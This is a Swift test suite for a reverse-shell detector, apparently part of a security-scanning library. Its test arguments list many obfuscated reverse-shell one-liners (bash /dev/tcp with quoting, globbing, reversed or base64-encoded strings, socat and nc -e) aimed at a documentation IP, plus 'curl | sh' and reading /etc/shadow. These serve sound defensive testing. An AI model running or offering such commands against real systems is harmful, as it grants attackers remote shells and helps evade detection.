import Bytes
import Testing

@testable import Detectors

private func shell(_ text: String) -> TextDetection? {
  text.withView { ReverseShellDetector().scan($0, .command) }.first
}

@Suite struct ShellSpellingTests {
  private func plain(_ text: String) -> String? {
    text.withView { ShellSpelling.plain($0) }.map { String(decoding: $0, as: UTF8.self) }
  }

  /// Quotes around parts of a path, patterns, lists, reversal, variables with padding.
  @Test(arguments: [
    "H=198.51.100.9; P=4242; bash -i >& /dev/tcp/\"$H\"/\"$P\" 0>&1",
    "H=198.51.100.9; P=4242; bash -i >& \"/dev/tcp/${H}/${P}\" 0>&1",
    "bash -i >& /dev/tcp/\"198.51.100.9\"/4242 0>&1", "bash -i >& /dev/\"tcp\"/198.51.100.9/4242 0>&1",
    "b\"as\"h -i >& /dev/tcp/198.51.100.9/4242 0>&1", "socat TCP:\"198.51.100.9\":4242 EXEC:/bin/sh",
    "{socat,tcp:198.51.100.9:4242,exec:sh}", "/b?n/n? -e /bin/sh 198.51.100.9 4242",
    "/bin/n? 198.51.100.9 4242 -e sh", "nc -'e' /bin/sh 198.51.100.9 4242",
    "bash -i >& /dev/tc${u}p/198.51.100.9/4242 0>&1", "/bin/b*h -i >& /dev/tcp/198.51.100.9/4242 0>&1",
    "rev <<< '1&>0 2424/9.001.15.891/pct/ved/ &> i- hsab' | bash",
    "bash -c \"$(rev<<<'1&>0 2424/9.001.15.891/pct/ved/ &> i- hsab')\"",
    "a=prev; echo '1&>0 2424/9.001.15.891/pct/ved/ &> i- hsab' | rev | bash",
    "a=YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkv; b=NDI0MiAwPiYxCg==; echo $a$b | base64 -d | bash",
  ])
  func isSeenThrough(text: String) {
    let found = shell(text)
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  @Test func onlyPartsOfWordsLoseTheirQuotes() {
    #expect(plain("cat /dev/\"tcp\"/h") == "cat /dev/tcp/h")
    #expect(plain("{\"a\":\"b\",\"c\":{\"d\":\"e\"}}") == nil)
    #expect(plain("{k:\"v\",n:\"w\"}") == nil)
    #expect(plain("x = r\"abcdefgh\"; y = b'abcdefgh'z") == nil)
    #expect(plain("echo a/ \"b c\"") == nil)
    for text in ["{\"a\":\"b\",\"c\":{\"d\":\"e\"}}", "key: \"value\"", "git commit -m \"fix it\""] {
      #expect(!text.withView { CommandLayers.mayHold($0) }, "\(text)")
    }
  }

  @Test func listsNameAProgramFirst() {
    #expect(plain("{curl,-s,http://h.example/a}|sh") == "curl -s http://h.example/a|sh")
    #expect(plain("{a:1,b:2}") == nil)
  }

  @Test func patternsStandForWhatIsTypedSo() {
    #expect(plain("cat /e?c/shadow") == "cat /etc/shadow")
    #expect(plain("/usr/b*/n*at -h") == "/usr/bin/ncat -h")
    #expect(plain("ls /bin/*") == nil)
    #expect(plain("rm -rf /var/*/x*h") == nil)
    // A star is within one folder.
    #expect(plain("/*h -c id") == nil)
  }

  /// Only what stands near the tool is turned, however long the text.
  @Test func whatIsTurnedStandsNearTheTool() {
    let padding = String(repeating: "0123456789 abcdef ", count: 3000)
    for tool in ["| tr 'A-Za-z' 'N-ZA-Mn-za-m' |", "| rev |"] {
      let layers = (padding + tool + padding).withView { CommandLayers.unwrap($0) }
      #expect(layers.contains { !$0.isRewording })
      #expect(layers.allSatisfy { $0.isRewording || $0.text.count <= 8 << 10 })
    }
  }
}
